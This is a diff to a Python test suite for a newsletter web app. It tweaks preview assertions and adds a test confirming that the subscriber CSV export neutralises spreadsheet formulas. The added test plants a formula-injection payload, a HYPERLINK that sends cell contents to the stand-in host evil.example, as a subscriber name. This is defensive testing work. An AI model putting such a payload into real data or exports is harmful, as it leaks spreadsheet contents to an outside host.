@@ -91,9 +91,9 @@ def test_preview_send_now_progress_and_test_send(mail_app, smtp_server):
     client.post("/newsletter/admin/note", data={"editor_note": "Welcome to *spring*."})
     preview = client.get(f"/newsletter/admin/preview?subscriber={sub_id}")
     assert preview.status_code == 200
-    assert b"Fresh findings" in preview.data and b"Welcome to *spring*." in preview.data
+    assert b"Fresh findings" in preview.data and b"Welcome to spring." in preview.data  # plain text, not Markdown
     frame = client.get(f"/newsletter/admin/preview.html?subscriber={sub_id}")
-    assert b"<em>spring</em>" in frame.data and b"/newsletter/unsubscribe/" in frame.data
+    assert b"<em>spring</em>" in frame.data and b"/newsletter/unsubscribe/" not in frame.data  # an editor: placeholder links
     assert "frame-ancestors 'self'" in frame.headers["Content-Security-Policy"]
     sent = client.post("/newsletter/admin/test", data={"address": "editor@example.net"})
     assert sent.status_code == 302
@@ -177,3 +177,17 @@ def test_invitation_and_password_reset_are_emailed(mail_app, smtp_server):
     assert b"was emailed" in reset.data
     [message] = smtp_server.messages("writer@example.org")
     assert "/reset-password/" in message.get_content()
+
+
+def test_subscriber_export_escapes_formulas(app):
+    client = _admin_client(app)
+    with app.app_context():
+        [subscriber] = add_subscribers(1)
+        subscriber.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+        subscriber.tags = "@SUM(1), -2"
+        db.session.commit()
+    export = client.get("/newsletter/admin/subscribers.csv")
+    assert export.headers["Cache-Control"] == "no-store"
+    [row] = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert row["tags"] == "'@SUM(1), -2" and row["email"] == "reader0@example.org"
